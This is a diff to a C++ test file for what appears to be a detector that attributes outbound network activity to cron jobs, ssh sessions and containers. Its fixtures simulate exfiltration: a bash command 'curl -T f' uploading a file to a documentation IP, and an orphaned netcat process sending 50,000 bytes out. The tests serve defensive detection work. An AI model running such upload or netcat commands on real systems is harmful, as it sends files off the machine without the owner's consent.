@@ -234,9 +234,9 @@ TEST_CASE("machines: sudo, doas and their kin from cron") {
 }
 
 TEST_CASE("machines: cron by all its names") {
-  const auto exe = GENERATE(values<std::string>(
-      {"/usr/sbin/cron", "/usr/sbin/crond", "/usr/sbin/fcron", "/usr/sbin/anacron",
-       "/usr/sbin/atd", "/bin/busybox"}));
+  const auto exe =
+      GENERATE(values<std::string>({"/usr/sbin/cron", "/usr/sbin/crond", "/usr/sbin/fcron",
+                                    "/usr/sbin/anacron", "/usr/sbin/atd", "/bin/busybox"}));
   CAPTURE(exe);
   Log log;
   const bool busybox = exe == "/bin/busybox";
@@ -281,8 +281,7 @@ TEST_CASE("machines: ssh HOST COMMAND") {
   const bool terminal = GENERATE(false, true);
   CAPTURE(terminal);
   CronHost log;
-  const int user =
-      log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, terminal ? "pts0" : "");
+  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, terminal ? "pts0" : "");
   log.fork(user, 502);
   log.who(502).tty = terminal ? "pts0" : "(none)";
   log.exec(502, "/usr/bin/bash", {"bash", "-c", "curl -T f http://203.0.113.9/"});
@@ -441,6 +440,23 @@ TEST_CASE("machines: a container's number for its child may be a host daemon's t
   log.exec(301, "/usr/bin/dash", {"/bin/sh", "-c", "job"});
   curl(log, child(log, 301, 302));
   CHECK(sign_of(one(log)) == "unattended cron");
+}
+
+TEST_CASE("machines: an orphan whose exec was lost is still its job's") {
+  CronHost log;
+  const int shell = log.job("daemonise");
+  log.fork(shell, 1900);
+  log.exit(shell);
+  log.who(1900).ppid = 1;
+  log.lose(1);
+  log.who(1900).exe = "/usr/bin/nc.openbsd";
+  log.who(1900).comm = "nc";
+  log.tcp(1900, 3, kDrop, 9000);
+  log.write(1900, 3, 50'000);
+  log.done(1900);
+  const auto fact = one(log);
+  CHECK(fact.tool == "nc");
+  CHECK(sign_of(fact) == "unattended cron");
 }
 
 TEST_CASE("machines: at, without session records, by its daemon") {
